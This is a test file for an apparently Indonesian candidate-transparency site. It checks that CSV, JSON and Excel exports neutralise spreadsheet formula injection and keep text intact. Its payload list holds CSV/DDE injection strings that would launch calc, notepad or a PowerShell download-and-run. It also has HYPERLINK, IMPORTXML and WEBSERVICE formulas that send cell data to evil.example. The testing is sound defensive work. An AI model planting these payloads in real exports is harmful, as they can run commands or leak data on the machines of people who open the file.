"""The pure row builder and writers: formula injection, round trips through real readers."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from transparency.exports.rows import (
    DisclosureCell,
    ExportRecord,
    columns,
    json_record,
    neutralise,
    safe_cell,
    tabular_row,
    tabular_values,
)
from transparency.exports.writers import BOM, csv_chunks, json_chunks
from transparency.exports.xlsx import Sheet, write_workbook

# Each would be evaluated by a spreadsheet program if it reached a cell unchanged.
FORMULA_PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\tdata",
    "\rdata",
    "\0",
    " =1+1",
    "   +1",
    "  -1",
    "    @A1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    " ＝cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "-@SUM(1)",
    "−1+1",
]
INERT = ["Siti Rahayu", "1+1", "a=b", "PKB", "", "Ir. H. Bambang, S.H.", "😀 =1", "100%"]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_formula_payloads_are_made_inert_and_keep_their_text(payload):
    assert len(FORMULA_PAYLOADS) >= 30
    inert = neutralise(payload)
    assert inert.startswith("'")
    assert inert[1:] == payload


@pytest.mark.parametrize("text", INERT)
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-5, -0.5, 0, 42, 3.25, True, None])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number


def record(**fields) -> ExportRecord:
    values = {
        "candidacy_id": 7,
        "profile_url": "https://jejak.example/candidates/7",
        "name": "Siti Rahayu",
        "gender": "P",
        "election": "pemilu-2024",
        "office": "DPR",
        "province": "33",
        "district_code": "3304",
        "district_name": "JAWA TENGAH IV",
        "party": "pkb",
        "ballot_number": 3,
        "disclosure_score": 40,
        "flagged": True,
        "ruleset_version": "2024.1",
        "flagged_since": datetime(2023, 11, 14, 8, 0),
        "last_change": datetime(2023, 11, 15, 9, 30),
        "flags": (
            {
                "rule_id": "R-CV",
                "requirement": "cv",
                "status": "refused",
                "reason_id": "Tidak bersedia membuka data diri (per 14 November 2023)",
                "reason_en": "Refused to publish the CV (as of 14 November 2023)",
                "source_url": "https://kpu.example/dct",
            },
        ),
        "disclosure": {
            "cv": DisclosureCell("cv", "refused", date(2023, 11, 14), "https://kpu.example/dct")
        },
        "sources": ("https://kpu.example/dct",),
    }
    values.update(fields)
    return ExportRecord(**values)


def test_row_follows_the_header_with_reasons_status_and_dates():
    header = columns(["cv", "lhkpn"])
    row = dict(zip(header, tabular_row(record(), ["cv", "lhkpn"]), strict=True))
    assert row["flag_rule_ids"] == "R-CV"
    assert row["flag_reasons_id"].startswith("Tidak bersedia membuka data diri")
    assert row["status_cv"] == "refused"
    assert row["checked_at_cv"] == "2023-11-14"
    assert row["status_lhkpn"] is None
    assert row["disclosure_score"] == 40
    assert row["last_change"] == "2023-11-15T09:30:00Z"


def test_hostile_name_is_neutralised_in_the_row_but_raw_in_json():
    hostile = record(name='=HYPERLINK("http://x")', party="-pkb")
    row = tabular_row(hostile, ["cv"])
    assert '\'=HYPERLINK("http://x")' in row
    assert "'-pkb" in row
    assert json_record(hostile)["name"] == '=HYPERLINK("http://x")'


TRICKY = [
    'Tanda "kutip" dan, koma',
    "baris satu\nbaris dua\r\nbaris tiga",
    "\u200fتجربة\u200e kanan-ke-kiri",
    "emoji 😀🇮🇩",
    "nul\0di tengah",
    *FORMULA_PAYLOADS,
]


def test_csv_round_trip_keeps_text_quotes_and_newlines():
    header = ["id", "text", "score"]
    rows = [[index, text, -index] for index, text in enumerate(TRICKY)]
    body = b"".join(csv_chunks(header, ([safe_cell(c) for c in row] for row in rows)))
    assert body.startswith(BOM.encode("utf-8"))
    assert b"\r\n" in body
    read = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert read[0] == header
    for (index, text, score), got in zip(rows, read[1:], strict=True):
        assert got[0] == str(index)
        assert got[1] == neutralise(text)
        assert got[2] == str(score)  # a negative number is written as a number, unquoted
    assert f"\r\n3,{neutralise(TRICKY[3])},-3\r\n".encode() in body


def test_json_stream_is_one_valid_document_with_metadata_first():
    rows = [json_record(record(candidacy_id=i, name=TRICKY[i % len(TRICKY)])) for i in range(7)]
    chunks = list(json_chunks({"row_count": 7}, rows))
    document = json.loads(b"".join(chunks))
    assert list(document) == ["metadata", "rows", "rows_sha256"]
    assert document["metadata"]["row_count"] == 7
    assert [row["name"] for row in document["rows"]] == [TRICKY[i] for i in range(7)]


def test_json_stream_of_no_rows_is_valid():
    document = json.loads(b"".join(json_chunks({"row_count": 0}, [])))
    assert document["rows"] == []


def _excel(text: str) -> str:
    """What an ECMA-376 reader that does not decode `_xHHHH_` (openpyxl) shows: XML cannot
    hold C0 control characters, which the format writes as that escape (Excel decodes it)."""
    return text.replace("\0", "_x0000_")


def test_excel_cells_keep_their_types_and_text_exactly(tmp_path):
    header = ["id", "text", "score", "checked", "changed", "flagged", "empty"]
    rows = [
        [
            index,
            text,
            -index,
            date(2023, 11, 14),
            datetime(2024, 2, 14, 7, 30, 5),
            index % 2 == 0,
            None,
        ]
        for index, text in enumerate(TRICKY)
    ]
    target = tmp_path / "out.xlsx"
    write_workbook(target, [Sheet("candidates", header, rows, autofilter=True)])
    workbook = load_workbook(target)
    sheet = workbook["candidates"]
    assert [cell.value for cell in sheet[1]] == header
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:G{len(rows) + 1}"
    for index, (number, text, score, *_rest) in enumerate(rows, start=2):
        cells = sheet[index]
        assert cells[0].value == number and cells[0].data_type == "n"
        assert cells[1].data_type == "s"
        assert cells[1].value == _excel(text)  # no quote added, nothing evaluated
        assert cells[2].value == score and isinstance(cells[2].value, int)
        assert cells[3].is_date and cells[3].value == datetime(2023, 11, 14)
        assert cells[4].is_date and cells[4].value == datetime(2024, 2, 14, 7, 30, 5)
        assert cells[5].value is (number % 2 == 0) and cells[5].data_type == "b"
        assert cells[6].value is None
    workbook.close()


def test_excel_text_that_looks_like_markup_or_escapes_survives(tmp_path):
    texts = ["<r><t>x</t></r>", "R&D <b>tebal</b>", "  spasi  ", "_x0041_ harfiah", "tab\tdi"]
    target = tmp_path / "out.xlsx"
    write_workbook(target, [Sheet("s", ["text"], [[text] for text in texts])])
    got = [row[0] for row in load_workbook(target)["s"].iter_rows(min_row=2, values_only=True)]
    # openpyxl does not decode the format's own escape of a literal `_x0041_`; Excel does.
    assert got == [*texts[:3], "_x005F_x0041_ harfiah", texts[4]]


def test_excel_never_stores_a_formula(tmp_path):
    target = tmp_path / "out.xlsx"
    write_workbook(target, [Sheet("candidates", ["text"], [[text] for text in FORMULA_PAYLOADS])])
    workbook = load_workbook(target)
    cells = [cell for row in workbook["candidates"].iter_rows(min_row=2) for cell in row]
    assert len(cells) == len(FORMULA_PAYLOADS)
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells] == [_excel(text) for text in FORMULA_PAYLOADS]


def test_excel_values_follow_the_header_with_typed_dates():
    header = columns(["cv", "lhkpn"])
    row = dict(zip(header, tabular_values(record(), ["cv", "lhkpn"]), strict=True))
    assert row["checked_at_cv"] == date(2023, 11, 14)
    assert row["last_change"] == datetime(2023, 11, 15, 9, 30)
    assert row["checked_at_lhkpn"] is None
    hostile = dict(zip(header, tabular_values(record(name="=1+1"), ["cv"]), strict=False))
    assert hostile["name"] == "=1+1"
